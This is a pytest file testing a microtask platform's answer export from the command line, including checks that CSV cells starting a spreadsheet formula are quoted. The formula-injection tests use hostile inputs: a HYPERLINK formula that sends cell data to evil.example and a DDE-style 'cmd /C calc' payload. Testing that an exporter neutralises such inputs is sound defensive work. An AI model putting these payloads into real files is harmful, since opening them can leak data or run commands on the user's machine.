"""A moderator exports answers from the command line and opens them in a spreadsheet: every row
says what was asked, whether the answer counts yet, and no cell runs as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from microtasks.cli import app
from storage import schema
from storage.database import Database
from tasks.engine import TaskEngine
from tasks.export import FORMULA_TRIGGERS, csv_cell
from tasks.kinds import Kind, VoiceAnswer
from tests.clock import ManualClock
from tests.tasks.builders import active_batch, member

pytestmark = pytest.mark.usefixtures("upgraded_database")  # the bot or `db upgrade` made it

DB = Path("data") / "microtasks.db"
runner = CliRunner()


def answered(kind: Kind, answers: dict[str, Any], **batch: Any) -> int:
    """A batch of one item of `kind`, answered by each named member."""

    async def build() -> int:
        await schema.upgrade(DB)
        db = await Database.open(DB)
        try:
            batch_id = await active_batch(db, kind, items=1, overlap=len(answers), **batch)
            engine = TaskEngine(db)
            for name, value in answers.items():
                who = await member(db, name)
                task = await engine.next_task(who, batch_id=batch_id)
                assert task is not None
                await engine.submit(who, task.token, value)
            return batch_id
        finally:
            await db.close()

    return asyncio.run(build())


def export(batch_id: int, fmt: str, *extra: str) -> str:
    result = runner.invoke(app, ["batch", "export", str(batch_id), "--format", fmt, *extra])
    assert result.exit_code == 0, result.stderr
    return result.stdout


def jsonl_rows(batch_id: int) -> list[dict[str, Any]]:
    return [json.loads(line) for line in export(batch_id, "jsonl").splitlines()]


def csv_rows(batch_id: int) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export(batch_id, "csv"))))


def test_a_text_answer_waiting_for_review_does_not_count_yet() -> None:
    batch_id = answered(Kind.text, {"ada": "A cat sat on the warm mat all day long."})

    (row,) = jsonl_rows(batch_id)
    assert row["status"] == "pending review" and row["counted"] is False
    (cells,) = csv_rows(batch_id)
    assert cells["status"] == "pending review" and cells["counted"] == "false"
    assert cells["is_gold"] == "false"


def test_each_row_carries_what_was_asked_and_the_answers_language() -> None:
    text = answered(Kind.text, {"ada": "The weather today is lovely and the sky is very clear."})
    compare = answered(Kind.compare, {"bob": "a"})

    (written,) = jsonl_rows(text)
    assert written["input"] == {"brief": "write about topic 0"}
    assert written["language"] == "en"
    assert written["review_votes"] == [] and written["voice_file"] is None
    (picked,) = jsonl_rows(compare)
    assert picked["input"] == {"prompt": "question 0", "a": "first", "b": "second"}
    assert picked["status"] == "accepted" and picked["counted"] is True
    (cells,) = csv_rows(compare)
    assert json.loads(cells["input"]) == picked["input"] and cells["counted"] == "true"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_member_text_and_titles_that_start_a_formula_are_quoted_in_csv(trigger: str) -> None:
    formula = f'{trigger}HYPERLINK("http://evil.example/?x="&A1,"click")'
    batch_id = answered(Kind.text, {"ada": formula}, title=f"{trigger}cmd|' /C calc'!A0")

    (cells,) = csv_rows(batch_id)
    (row,) = jsonl_rows(batch_id)
    assert [name for name, cell in cells.items() if cell.startswith(FORMULA_TRIGGERS)] == []
    if trigger.isspace():  # what members and files write is trimmed: nothing starts with it
        assert cells["value"] == row["value"] == formula.strip()
        return
    assert cells["value"] == "'" + formula
    assert cells["batch_title"] == f"'{trigger}cmd|' /C calc'!A0"
    assert row["value"] == formula and row["batch_title"] == f"{trigger}cmd|' /C calc'!A0"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_character_is_neutralised(trigger: str) -> None:
    assert csv_cell(f"{trigger}1+1") == f"'{trigger}1+1"
    assert csv_cell(f"a{trigger}1") == f"a{trigger}1"
    assert csv_cell(-3) == -3


def test_the_aggregated_csv_quotes_an_item_id_that_starts_a_formula(tmp_path: Path) -> None:
    items = tmp_path / "items.csv"
    items.write_text("id,text\n-1,first\n")
    settings = ["--kind", "choice", "--title", "t", "--instructions", "i", "--labels", "a,b"]
    assert runner.invoke(app, ["batch", "import", str(items), *settings]).exit_code == 0
    assert runner.invoke(app, ["batch", "activate", "1"]).exit_code == 0

    async def answer() -> None:
        db = await Database.open(DB)
        try:
            who = await member(db, "ada")
            task = await TaskEngine(db).next_task(who, batch_id=1)
            assert task is not None
            await TaskEngine(db).submit(who, task.token, "a")
        finally:
            await db.close()

    asyncio.run(answer())

    rows = list(csv.DictReader(io.StringIO(export(1, "csv", "--aggregated", "--method", "mv"))))
    assert [row["item_id"] for row in rows] == ["'-1"]


def test_a_reviewed_text_answer_shows_its_votes_and_outcome() -> None:
    batch_id = answered(Kind.text, {"ada": "Some words about the topic that was asked for."})

    async def review() -> None:
        db = await Database.open(DB)
        try:
            review_batch = await db.fetch_value(
                "SELECT review_batch_id FROM batches WHERE id = ?", (batch_id,)
            )
            engine = TaskEngine(db)
            for name in ("bob", "cy", "dan"):
                who = await member(db, name)
                task = await engine.next_task(who, batch_id=review_batch)
                if task is not None:
                    await engine.submit(who, task.token, "spam")
        finally:
            await db.close()

    asyncio.run(review())

    (row,) = jsonl_rows(batch_id)
    assert row["review_votes"] and set(row["review_votes"]) == {"spam"}
    assert row["status"] == "rejected" and row["counted"] is False


def test_a_late_answer_to_a_full_item_exports_as_surplus_not_counted() -> None:
    async def build() -> int:
        db = await Database.open(DB)
        try:
            batch_id = await active_batch(db, Kind.choice, items=1, overlap=1, lease_seconds=60)
            clock = ManualClock()
            engine = TaskEngine(db, clock=clock)
            slow, quick = await member(db, "slow"), await member(db, "quick")
            slow_task = await engine.next_task(slow)
            assert slow_task is not None
            clock.advance(61)
            quick_task = await engine.next_task(quick)  # the expired slot, leased again
            assert quick_task is not None
            await engine.submit(quick, quick_task.token, "no")
            assert (await engine.submit(slow, slow_task.token, "yes")).surplus
            return batch_id
        finally:
            await db.close()

    batch_id = asyncio.run(build())

    by_value = {row["value"]: row for row in jsonl_rows(batch_id)}
    assert (by_value["no"]["status"], by_value["no"]["counted"]) == ("accepted", True)
    assert (by_value["yes"]["status"], by_value["yes"]["counted"]) == ("surplus", False)
    assert {row["value"]: row["status"] for row in csv_rows(batch_id)}["yes"] == "surplus"


def test_a_voice_batch_exports_as_a_bundle_with_each_recording_its_row_names(
    tmp_path: Path,
) -> None:
    recording = Path("data/voice/console/ab12.ogg")
    recording.parent.mkdir(parents=True)
    recording.write_bytes(b"OggS recorded sentence")
    batch_id = answered(
        Kind.voice, {"reader": VoiceAnswer(str(recording), 2.5), "other": VoiceAnswer("gone", 1)}
    )

    result = runner.invoke(app, ["batch", "export", str(batch_id), "-o", "bundle.zip"])

    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == "wrote 2 answers and 1 recording to bundle.zip"
    assert "the recording voice/gone was not found" in result.stderr
    with zipfile.ZipFile("bundle.zip") as bundle:
        rows = [json.loads(line) for line in bundle.read("answers.jsonl").splitlines()]
        (row,) = [row for row in rows if row["voice_file"] == "voice/ab12.ogg"]
        assert bundle.read(row["voice_file"]) == b"OggS recorded sentence"
        assert sorted(bundle.namelist()) == ["answers.jsonl", "voice/ab12.ogg"]
    assert row["input"] == {"sentence": "Sentence number 0."}, "the sentence that was read"
